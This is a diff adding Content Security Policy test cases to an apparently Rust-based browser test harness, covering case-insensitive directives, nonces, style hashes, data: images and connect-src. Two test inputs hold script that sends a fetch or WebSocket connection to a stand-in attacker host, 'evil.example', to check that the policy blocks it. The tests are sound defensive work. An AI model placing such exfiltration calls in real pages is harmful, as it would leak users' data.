@@ -162,6 +162,20 @@ fn main() {
         case("child-src covers frames when frame-src is absent", &["child-src 'none'"], "<iframe src=https://frames.example/f.html></iframe>"),
         case("object-src 'none' blocks an object", &["object-src 'none'"], "<object data=https://plugins.example/p.swf></object>"),
         case("connect-src blocks fetch to another host", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('https://evil.example/steal').catch(() => {});</script>"),
+        // Names and keywords are case-insensitive; 'report-sample' allows nothing.
+        case("directive names are case-insensitive", &["SCRIPT-SRC 'none'"], &script("s")),
+        case("keywords are case-insensitive", &["script-src 'UNSAFE-INLINE'"], &script("s")),
+        case("'report-sample' allows nothing by itself", &["script-src 'self' 'report-sample'"], &script("s")),
+        case("a port wildcard matches any port", &["script-src https://cdn.example:*"], "<script src=https://cdn.example:8443/a.js></script>"),
+        case("a module script is checked like any script", &["script-src 'self'"], "<script type=module src=/agreement/module.js></script><script type=module>alert('m')</script>"),
+        case("a nonce on a script with `<script` in an attribute is not trusted", &["script-src 'nonce-castle123'"], "<script nonce=castle123 data-x=\"<script\">alert('s')</script>"),
+        // Style hashes, and 'unsafe-hashes' for a style attribute.
+        case("a <style> allowed by its hash", &[&format!("style-src {}", sha(Sha256, "p { color: red }"))], "<style>p { color: red }</style><style>p { color: blue }</style><p>x</p>"),
+        case("a style attribute allowed by 'unsafe-hashes' and its hash", &[&format!("style-src 'unsafe-hashes' {}", sha(Sha256, "color: red"))], "<p style=\"color: red\">x</p><p style=\"color: blue\">y</p>"),
+        case("default-src covers an external stylesheet on the page's origin", &["default-src 'none'"], "<link rel=stylesheet href=/agreement/castle.css><p>x</p>"),
+        case("img-src data: allows a data: image", &["img-src 'self' data:"], "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">"),
+        case("connect-src 'self' allows fetch to the page's origin", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); fetch('/agreement/api').catch(() => {});</script>"),
+        case("connect-src governs WebSockets", &["script-src 'unsafe-inline'; connect-src 'self'"], "<script>alert('s'); try { new WebSocket('wss://evil.example/live') } catch (e) {}</script>"),
         // Several policies.
         case("every policy must allow", &["script-src 'unsafe-inline' https://cdn.example", "script-src 'unsafe-inline'"], "<script>alert('s')</script><script src=https://cdn.example/lib.js></script>"),
         case("each blocking policy reports", &["script-src 'self'", "default-src 'none'"], &script("s")),
